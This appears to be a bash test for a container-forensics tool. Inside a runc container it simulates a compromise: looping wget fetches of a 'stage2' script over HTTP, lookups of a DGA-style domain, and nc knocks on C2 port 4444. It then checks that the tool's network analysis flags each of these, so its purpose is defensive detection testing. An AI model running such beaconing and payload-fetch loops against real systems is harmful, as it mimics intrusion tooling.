@@ -1,0 +1,113 @@
+#!/bin/bash
+# t1102: the network summary of contain analyze on a real capture. A runc
+# container with a veth to the host keeps fetching a script over plain HTTP
+# from a server on the host, looks up a generated-looking name and knocks on a
+# C2 port (4444) with nothing listening; captured (pcap on, the network cut
+# and watched), then analyzed as a directory bag and as a tar.gz bag:
+# network.pcaps counts equal tcpdump's, the flows to the C2 and the HTTP
+# server are there (2 s observed before the cut), the HTTP request and its script body, the DNS question,
+# the findings flow.mining-pool, flow.after-cut (with the C2 among its
+# destinations), flow.http-download and flow.dga-name; the flows in
+# timeline.csv, report.html and report.md; report.json validates against
+# docs/report-schema.json.
+. "$(dirname "$0")/../lib/lib.sh"
+. "$CONTAIN_TOP/tests/lib/containers.sh"
+. "$CONTAIN_TOP/tests/lib/net.sh"
+need_root
+need_cmd runc jq ip nsenter tcpdump python3 tar timeout
+fixtures_ready || skip_all "no fixtures (run fixtures/build.sh)"
+[ -x "$CONTAIN" ] || skip_all "no contain binary at $CONTAIN"
+IMG=$CONTAIN_TOP/fixtures/cache/fixture-docker.tar
+[ -f "$IMG" ] || skip_all "no $IMG (run fixtures/build.sh)"
+SCHEMA=$CONTAIN_TOP/docs/report-schema.json
+
+N=t1102-$$
+HOSTIF=cfl$$ HOSTIP=10.213.251.1 CTRIP=10.213.251.2
+HOSTIF=${HOSTIF:0:12}
+runc_run "$N" || skip_all "cannot start a runc container"
+on_exit "\"$CONTAIN\" release $N >/dev/null 2>&1"
+veth_attach "$CPID" "$HOSTIF" "$HOSTIP/30" "$CTRIP/30" || skip_all "cannot attach a veth"
+
+# the script served over plain HTTP from the host
+mkdir -p "$T_DIR/www"
+printf '#!/bin/sh\necho stage2\n' >"$T_DIR/www/a.sh"
+python3 -m http.server --bind "$HOSTIP" --directory "$T_DIR/www" 8000 >/dev/null 2>&1 &
+WEB=$!
+on_exit "kill $WEB"
+wait_for 10 sh -c "exec 3<>/dev/tcp/$HOSTIP/8000" 2>/dev/null
+
+# three loops, each on its own (a lookup nobody answers must not hold up the rest)
+runc_exec "$N" sh -c '
+	(while :; do wget -q -O /dev/null http://'"$HOSTIP"':8000/a.sh; sleep 0.2; done \
+		>/dev/null 2>&1 &)
+	(while :; do nslookup xk3q9zt7vbw2pl8m4nrj.example.test '"$HOSTIP"'; sleep 0.2; done \
+		>/dev/null 2>&1 &)
+	(while :; do nc -w 1 '"$HOSTIP"' 4444 </dev/null; sleep 0.2; done >/dev/null 2>&1 &)
+' </dev/null
+sleep 1
+
+BAG=$T_DIR/bag
+run timeout 120 "$CONTAIN" capture "$N" -o "$BAG" --observe 2 --watch-cut 2 --no-memory
+is "$RC" 0 "capture exits 0"
+[ "$RC" -eq 0 ] || diag "$OUT $ERR"
+"$CONTAIN" release "$N" >/dev/null 2>&1; [ -z "${FLOWS_KEEP:-}" ] || cp -a "$BAG" "$FLOWS_KEEP"
+
+check_report() {
+	local R=$1 l=$2 J=$1/report.json
+	ok "$l: report.json" test -s "$J"
+	# every pcap: the packets counted are tcpdump's
+	local p name got want
+	for p in "$BAG"/data/network/*.pcap; do
+		name=data/network/$(basename "$p")
+		want=$(tcpdump -nn -r "$p" 2>/dev/null | wc -l)
+		got=$(jq --arg n "$name" '.network.pcaps[] | select(.name == $n) | .packets' "$J")
+		is "$got" "$want" "$l: $name: the packets tcpdump reads"
+	done
+	like "$(jq -c '.network.flows[] | select(.dport == 4444)' "$J")" \
+		"\"src\":\"$CTRIP\".*\"dst\":\"$HOSTIP\"" "$l: the flows to the C2 port, from the container"
+	like "$(jq -c '.network.flows[] | select(.dport == 8000) | .state' "$J")" \
+		'"(closed|established|reset)"' "$l: the HTTP flows, with their TCP state"
+	like "$(jq -c '.network.http[]' "$J")" '"method":"GET","target":"/a.sh".*"body":"script"' \
+		"$l: the HTTP request and the script it fetched"
+	like "$(jq -c '.network.http[0].host' "$J")" "$HOSTIP:8000" "$l: the HTTP Host"
+	like "$(jq -c '.network.dns[].questions[].name' "$J")" 'xk3q9zt7vbw2pl8m4nrj' \
+		"$l: the DNS question"
+	local ids
+	ids=$(jq -r '.findings[].id' "$J" | sort -u | tr '\n' ' ')
+	like "$ids" 'flow\.mining-pool' "$l: flow.mining-pool"
+	like "$ids" 'flow\.http-download' "$l: flow.http-download"
+	like "$ids" 'flow\.dga-name' "$l: flow.dga-name"
+	like "$ids" 'flow\.after-cut' "$l: flow.after-cut"
+	like "$(jq -c '.findings[] | select(.id == "flow.after-cut") | .evidence.destinations[].dst' "$J")" \
+		"$HOSTIP:(4444|8000)" "$l: flow.after-cut names what the container tried once cut off"
+	like "$(jq -r '.findings[] | select(.id == "flow.http-download") | .path' "$J")" \
+		"^http://$HOSTIP:8000/a.sh$" "$l: flow.http-download names the URL"
+	ok "$l: the flows in timeline.csv" grep -q '^"[^"]*","network","flow",' "$R/timeline.csv"
+	ok "$l: the flows in report.html" grep -q 'Network flows (' "$R/report.html"
+	ok "$l: the flows in report.md" grep -q '^## Network flows (' "$R/report.md"
+	if python3 -c 'import jsonschema' 2>/dev/null; then
+		run python3 -c '
+import json, sys, jsonschema
+s = json.load(open(sys.argv[1])); d = json.load(open(sys.argv[2]))
+errs = list(jsonschema.Draft202012Validator(s).iter_errors(d))
+for e in errs[:10]: print("/".join(map(str, e.path)), e.message[:200])
+sys.exit(1 if errs else 0)' "$SCHEMA" "$J"
+		is "$RC" 0 "$l: report.json validates against docs/report-schema.json"
+		[ "$RC" -eq 0 ] || diag "$OUT"
+	else
+		in_ci && _t_result 1 "$l: CI=true: python3-jsonschema is installed"
+	fi
+}
+
+run "$CONTAIN" analyze "$BAG" --image "$IMG" -o "$T_DIR/rep-dir"
+is "$RC" 1 "analyze (directory bag) exits 1: findings at or above high"
+check_report "$T_DIR/rep-dir" "directory bag"
+
+tar -C "$T_DIR" -czf "$T_DIR/bag.tar.gz" bag
+run "$CONTAIN" analyze "$T_DIR/bag.tar.gz" --image "$IMG" -o "$T_DIR/rep-tar"
+is "$RC" 1 "analyze (tar.gz bag) exits 1"
+check_report "$T_DIR/rep-tar" "tar bag"
+is "$(jq -c '.network.flows | length' "$T_DIR/rep-tar/report.json")" \
+	"$(jq -c '.network.flows | length' "$T_DIR/rep-dir/report.json")" "the same flows from both forms"
+
+done_testing
